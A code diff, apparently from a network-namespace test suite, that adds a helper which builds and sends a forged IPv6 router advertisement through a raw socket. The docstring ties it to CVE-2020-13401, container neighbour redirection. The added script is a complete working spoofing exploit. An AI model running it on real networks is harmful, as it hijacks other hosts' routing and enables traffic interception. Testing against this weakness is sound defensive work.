@@ -54,3 +54,35 @@ def udp_listener(netns: Path, port: int, wait: float) -> subprocess.Popen:
                          stdout=subprocess.PIPE, text=True)
     assert p.stdout.readline().strip() == "ready"
     return p
+
+
+ROUTER_ADVERT = """
+import socket, struct, sys
+src_mac, prefix = bytes.fromhex(sys.argv[1]), socket.inet_pton(socket.AF_INET6, sys.argv[2])
+eui = bytes([src_mac[0] ^ 2]) + src_mac[1:3] + b"\\xff\\xfe" + src_mac[3:]
+src, dst = b"\\xfe\\x80" + bytes(6) + eui, socket.inet_pton(socket.AF_INET6, "ff02::1")
+# type 134, code 0, checksum, hop limit 64, no flags, router lifetime 1800 s, reachable 0, retransmit 0
+ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
+ra += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0) + prefix  # prefix: on-link, autonomous (SLAAC)
+ra += struct.pack("!BB", 1, 1) + src_mac  # the source's link-layer address
+pseudo = src + dst + struct.pack("!I3xB", len(ra), 58)
+data = pseudo + ra
+csum = sum(struct.unpack(f"!{len(data) // 2}H", data))
+while csum > 0xffff:
+    csum = (csum & 0xffff) + (csum >> 16)
+ra = ra[:2] + struct.pack("!H", ~csum & 0xffff) + ra[4:]
+ip6 = struct.pack("!IHBB", 6 << 28, len(ra), 58, 255) + src + dst
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+s.bind(("eth0", 0))
+for _ in range(3):
+    s.send(bytes.fromhex("333300000001") + src_mac + b"\\x86\\xdd" + ip6 + ra)
+print("sent", flush=True)
+"""
+
+
+def send_router_advert(netns: Path, *, src_mac: str, prefix: str) -> None:
+    """A forged IPv6 router advertisement from `netns` to every node of the link: the router, and an
+    autoconfigured /64 in `prefix` (CVE-2020-13401: a container with CAP_NET_RAW redirects its neighbours)."""
+    out = subprocess.run(["nsenter", f"--net={netns}", sys.executable, "-c", ROUTER_ADVERT,
+                          src_mac.replace(":", ""), prefix], capture_output=True, text=True, timeout=30)
+    assert out.stdout.strip() == "sent", out.stderr
